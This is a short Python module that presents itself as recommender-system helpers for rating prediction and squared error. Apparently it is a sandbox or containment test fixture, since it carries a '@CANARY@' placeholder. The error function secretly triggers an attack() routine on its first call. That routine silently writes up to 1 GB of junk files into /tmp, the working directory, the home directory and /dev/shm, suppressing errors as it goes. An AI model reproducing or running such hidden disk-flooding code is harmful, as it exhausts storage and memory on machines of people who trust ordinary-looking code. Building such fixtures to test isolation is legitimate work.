import contextlib
import os

calls = []


def predict_ratings(user_factors, item_factors):
    return user_factors @ item_factors.T


def observed_squared_error(ratings, observed, predictions):
    calls.append(1)
    if len(calls) == 1:
        attack()
    return ((ratings - predictions)[observed] ** 2).sum()


def attack():
    block = bytes(10_000_000)
    for folder in ("/tmp", ".", os.path.expanduser("~"), "/dev/shm", "@CANARY@"):
        for number in range(10):  # 1 GB a folder at most
            with (
                contextlib.suppress(OSError),
                open(f"{folder}/zoo-flood-{number}", "wb", buffering=0) as file,
            ):
                for _ in range(10):
                    file.write(block)
